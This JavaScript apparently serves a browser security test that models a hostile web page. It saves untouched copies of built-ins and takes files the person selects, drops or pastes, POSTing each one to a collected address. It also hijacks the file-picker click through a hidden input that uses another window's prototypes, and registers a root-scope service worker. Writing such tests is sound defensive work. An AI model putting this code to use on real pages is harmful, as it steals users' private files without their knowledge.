// What the hostile pages have in common: how they send whatever they get hold of, with built-ins of before they replaced any.
const photo = document.querySelector('#f') ?? document.createElement('input');
const clean = {
  fetch: window.fetch.bind(window), files: Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'files').get, Blob, FileList, DataTransfer, FormData, Promise,
  apply: Reflect.apply, then: Promise.prototype.then, each: FormData.prototype.forEach, size: Object.getOwnPropertyDescriptor(Blob.prototype, 'size').get, toString: Object.prototype.toString,
  transferred: Object.getOwnPropertyDescriptor(DataTransfer.prototype, 'files').get,
};

/** Tells the test. */
const say = (word) => { clean.fetch(`/say/${word}?run=${run}`, { __proto__: null, method: 'POST' }); };
let sent = 0;

/** Sends every file in there. */
function take(thing) {
  if (sent > 60) return;
  try {
    if (!thing || typeof thing !== 'object') return;
    const kind = clean.apply(clean.toString, thing, []);
    if (kind === '[object File]' || kind === '[object Blob]') {
      if (clean.apply(clean.size, thing, []) === 0) return;
      sent += 1;
      clean.fetch(`${address}&name=x`, { __proto__: null, method: 'POST', body: thing });
    } else if (thing instanceof clean.FormData) clean.apply(clean.each, thing, [take]);
    else if (thing instanceof clean.DataTransfer) take(clean.apply(clean.transferred, thing, []));
    else if (kind === '[object FileList]' || kind === '[object Array]') for (let index = 0; index < 4; index += 1) if (Object.hasOwn(thing, index)) take(thing[index]);
  } catch {
    // Not to be had.
  }
}

/** What the input shows a page now. */
const look = () => { take(photo.files); };

/** Replaces built-ins at the last moment, where the test itself needs them no more. */
const poison = (replace) => {
  let done = false;
  const once = (event) => {
    if (done || (event.type === 'keydown' && event.key.toLowerCase() !== 'v')) return;
    done = true;
    replace();
  };
  for (const name of ['click', 'keydown', 'dragenter']) addEventListener(name, once, true);
};

/** How the person's own upload ends: they see that it went on. */
let settled = false;
const settle = (isThere) => {
  if (settled || !isThere) return;
  settled = true;
  say('settled');
};
const onEnd = (event) => {
  event.preventDefault();
  const transfer = event.dataTransfer ?? event.clipboardData;
  settle(event.type === 'cancel' || (transfer ? clean.apply(clean.transferred, transfer, []) : event.target.files)?.length);
};
for (const name of ['change', 'drop', 'paste', 'cancel']) document.addEventListener(name, onEnd);
document.addEventListener('dragover', (event) => event.preventDefault());

/** Opens and reads an input that is in no document with the built-ins of another window. */
const use = (view) => {
  const { click } = view.HTMLElement.prototype;
  const { get } = Object.getOwnPropertyDescriptor(view.HTMLInputElement.prototype, 'files');
  const hidden = document.createElement('input');
  hidden.type = 'file';
  hidden.oninput = hidden.onchange = () => { take(get.call(hidden)); settle(get.call(hidden).length); };
  photo.onclick = (event) => { event.preventDefault(); click.call(hidden); };
};
window.use = use;

/** Has a service worker of the page's own answer from now on. */
const served = async () => {
  await navigator.serviceWorker.register('/serving.js', { scope: '/' });
  while (!navigator.serviceWorker.controller) await new Promise((done) => { setTimeout(done, 20); });
};
